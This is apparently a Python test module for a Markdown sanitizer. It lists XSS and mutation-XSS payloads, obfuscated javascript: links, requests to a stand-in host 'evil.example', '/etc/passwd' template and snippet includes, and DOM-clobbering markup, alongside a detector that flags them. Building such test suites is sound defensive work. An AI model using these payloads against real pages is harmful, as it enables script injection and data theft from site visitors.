"""Hostile Markdown by what it tries, and what browsers would make of HTML."""

from collections.abc import Iterator
from html.parser import HTMLParser

IMAGE = "<img src=x onerror=alert(1)>"
EVIL = "//evil.example/x"

SCRIPTS = {
    "a_script": "<script>alert(1)</script>",
    "a_script_in_a_sentence": "Text <script>alert(1)</script> goes on.",
    "a_script_that_is_not_closed": "<script>alert(1)",
    "a_script_of_another_host": f'<script src="{EVIL}"></script>',
    "an_image_that_fails": IMAGE,
    "an_image_in_capitals_with_a_slash": "<IMG/SRC=x/OnErRoR=alert(1)>",
    "a_drawing_that_loads": "<svg onload=alert(1)></svg>",
    "a_drawing_with_a_script": "<svg><script>alert(1)</script></svg>",
    "a_drawing_that_animates": '<svg><animate onbegin=alert(1) attributeName="x"/></svg>',
    "a_drawing_with_a_link": '<svg><a xlink:href="javascript:alert(1)"><text>Go</text></a></svg>',
    "a_drawing_with_foreign_html": f"<svg><foreignObject>{IMAGE}</foreignObject></svg>",
    "a_mutation_in_math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
    "a_mutation_in_noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a_mutation_in_a_title": '<title><a title="</title><img src=x onerror=alert(1)>">x</a></title>',
    "details_that_toggle": "<details open ontoggle=alert(1)><summary>More</summary>x</details>",
    "an_input_that_focuses": "<input autofocus onfocus=alert(1)>",
    "a_frame_with_a_document": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "an_object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "an_embedded_file": '<embed src="data:text/html,<script>alert(1)</script>">',
    "a_video_that_fails": "<video><source onerror=alert(1)></video>",
    "a_marquee": "<marquee onstart=alert(1)>x</marquee>",
    "a_button_that_acts": "<form><button formaction=javascript:alert(1)>Go</button></form>",
    "a_button_that_shows": '<button popovertarget="x">Go</button><div popover id="x">x</div>',
    "a_link": "[Go](javascript:alert(1))",
    "a_link_in_mixed_case": "[Go](JaVaScRiPt:alert(1))",
    "a_link_with_a_tab": "[Go](java&#9;script:alert(1))",
    "a_link_with_a_line_end": "[Go](java&#x0A;script:alert(1))",
    "a_link_with_an_entity": "[Go](&#106;avascript&colon;alert(1))",
    "a_link_with_a_control_character": "[Go](&#1;javascript:alert(1))",
    "a_link_in_brackets": "[Go](<javascript:alert(1)>)",
    "a_link_by_reference": "[Go][there]\n\n[there]: javascript:alert(1)",
    "a_link_by_itself": "<javascript:alert(1)>",
    "a_link_in_html_with_spaces": '<a href=" \tjava\tscript:alert(1)">Go</a>',
    "a_link_to_data": "[Go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a_link_to_vbscript": "[Go](vbscript:alert(1))",
    "a_link_to_a_file": "[Go](file:///etc/passwd)",
    "an_image_of_a_script": "![Go](javascript:alert(1))",
    "an_attribute_of_a_link": "[Go](#){ onclick=alert(1) }",
    "an_attribute_of_a_paragraph": "Text.\n{: onmouseover=alert(1) }",
    "an_attribute_of_a_heading": "### Heading { onclick=alert(1) }",
    "an_attribute_of_a_block": "/// html | div[onclick=alert(1)]\nx\n///",
    "a_block_of_html": "/// html | script\nalert(1)\n///",
    "a_title_of_code": f'```python title="{IMAGE.replace(chr(34), "")}"\nprint(1)\n```',
    "a_language_of_code": f'```"{IMAGE}\nprint(1)\n```',
    "options_of_code": f"``` {{ .python onclick=alert(1) title='{IMAGE}' }}\nprint(1)\n```",
    "a_label_of_a_tab": f'=== "{IMAGE}"\n\n    Text.\n\n=== "Other"\n\n    Text.',
    "a_title_of_an_admonition": f'!!! note "{IMAGE}"\n\n    Text.',
    "a_title_of_details": f'??? note "{IMAGE}"\n\n    Text.',
    "a_kind_of_an_admonition": '!!! "><img src=x onerror=alert(1)>\n\n    Text.',
    "an_abbreviation": 'The HTML.\n\n*[HTML]: "><img src=x onerror=alert(1)>',
    "a_label_of_a_footnote": f"Text.[^<img>]\n\n[^<img>]: {IMAGE}",
    "a_heading_with_html": f"### Heading {IMAGE}",
    "an_anchor_that_breaks_out": '### Heading { #x"onclick="alert(1) }',
    "keys": '++"<img src=x onerror=alert(1)>"++',
    "a_table": f"| A |\n| --- |\n| {IMAGE} |",
    "a_definition": f"Term {IMAGE}\n:   {IMAGE}",
    "html_with_markdown": f'<div markdown="1">\n\n{IMAGE}\n\n</div>',
    "a_diagram": '```mermaid\ngraph TD\n  click A "javascript:alert(1)"\n```',
    "a_template": "{{ config }} {% include '/etc/passwd' %} {{ ''.__class__ }}",
    "a_snippet": '--8<-- "/etc/passwd"',
}
REQUESTS = {
    "a_refresh": f'<meta http-equiv="refresh" content="0;url=http:{EVIL}">',
    "a_base": f'<base href="http:{EVIL}/">',
    "a_form": f'<form action="http:{EVIL}"><input name="q"><button>Go</button></form>',
    "a_frame": f'<iframe src="http:{EVIL}"></iframe>',
    "a_preload": f'<link rel="preload" as="image" href="{EVIL}">',
    "a_style_sheet": f'<link rel="stylesheet" href="{EVIL}">',
    "a_style": f"<style>@import url({EVIL});</style>",
    "a_style_of_an_element": f'<div style="background:url({EVIL})">Text</div>',
    "a_style_in_an_attribute_list": f"Text.\n{{: style='background:url({EVIL})' }}",
    "a_picture": f"![A picture](http:{EVIL}.png)",
    "a_picture_without_scheme": f"![A picture]({EVIL}.png)",
    "a_picture_with_backslashes": '<img src="\\\\evil.example/x.png" alt="A picture">',
    "a_picture_set": f'<img srcset="{EVIL}.png 2x" alt="A picture">',
    "a_picture_source": f'<picture><source srcset="{EVIL}.png"><img alt="A picture"></picture>',
    "a_button_picture": f'<input type="image" src="{EVIL}.png">',
    "a_poster": f'<video poster="{EVIL}.png"></video>',
    "a_sound": f'<audio src="{EVIL}.mp3" autoplay></audio>',
    "a_background": f'<table background="{EVIL}.png"><tr><td>x</td></tr></table>',
    "a_drawing_of_a_picture": f'<svg><image href="http:{EVIL}.png"/></svg>',
    "a_drawing_by_use": f'<svg><use href="http:{EVIL}.svg#a"/></svg>',
    "a_ping": f'<a href="#" ping="http:{EVIL}">Go</a>',
    "a_link_without_scheme": f"[Go]({EVIL})",
}
CLOBBERING = {
    "settings_of_the_theme": '<a id="__config" href="x">x</a>',
    "the_search_of_the_theme": '<div id="__search">x</div>',
    "a_label_that_opens_the_search": '<label for="__search">Go</label>',
    "a_name_of_the_document": '<img name="currentScript" alt="x"><a name="body">x</a>',
    "an_overlay_of_the_theme": '<div class="md-overlay md-search__overlay">x</div>',
    "a_component_of_the_theme": '<div data-md-component="consent">x</div>',
    "a_diagram_of_the_theme": '<pre class="mermaid"><code>x</code></pre>',
}
_VOID = frozenset(["br", "col", "hr", "img", "input", "path", "wbr", "meta", "link", "source"])


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.events: list[tuple[str, str, tuple[tuple[str, str], ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = tuple(sorted((name, value or "") for name, value in attrs))
        self.events.append(("start", tag, found))

    def handle_endtag(self, tag: str) -> None:
        if tag not in _VOID:
            self.events.append(("end", tag, ()))

    def handle_data(self, data: str) -> None:
        if self.events and self.events[-1][0] == "text":
            data = self.events.pop()[1] + data
        self.events.append(("text", data, ()))

    def handle_comment(self, data: str) -> None:
        self.events.append(("comment", data, ()))


def events(html: str) -> list[tuple[str, str, tuple[tuple[str, str], ...]]]:
    """Return what a parser sees in *html*: tags with sorted attributes, texts, comments."""
    seen = _Seen()
    seen.feed(html)
    seen.close()
    return seen.events


def dangers(html: str) -> Iterator[str]:
    """Yield what in *html* could run, load from elsewhere or take a place of the theme."""
    for kind, tag, attributes in events(html):
        if kind == "comment" or (kind == "start" and tag not in SHOWN):
            yield f"{kind} {tag}"
        for name, value in attributes:
            if _acts(name, value) or _takes_a_place(name, value):
                yield f"{tag} {name}={value}"


def _acts(name: str, value: str) -> bool:
    if name.startswith("on") or name in ("style", "srcdoc", "srcset", "ping", "action"):
        return True
    plain = "".join(char for char in value if char > " ").replace("\\", "/").lower()
    return name in ("src", "href") and _runs(name, plain)


def _takes_a_place(name: str, value: str) -> bool:
    if name in ("id", "name", "for"):
        return value.startswith("__") and "tabbed" not in value
    if name == "class":
        return bool({"mermaid", "md-overlay"} & set(value.split()))
    return name.startswith("data-md")


def _runs(name: str, address: str) -> bool:
    before = address.partition("#")[0].partition("/")[0]
    scheme = before.partition(":")[0] if ":" in before else ""
    if name == "src":
        return bool(scheme) or address.startswith("//")
    return address.startswith("//") or scheme not in ("", "http", "https", "mailto", "tel")


# Written out once more: a slip in the table that guards pages must not be one in its test.
SHOWN = frozenset(
    [
        *("a", "abbr", "aside", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code"),
        *("col", "colgroup", "dd", "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption"),
        *("figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "input", "ins", "kbd"),
        *("label", "li", "mark", "ol", "p", "path", "pre", "q", "rp", "rt", "ruby", "s", "samp"),
        *("section", "small", "span", "strong", "sub", "summary", "sup", "svg", "table", "tbody"),
        *("td", "tfoot", "th", "thead", "time", "tr", "u", "ul", "var", "wbr"),
    ]
)
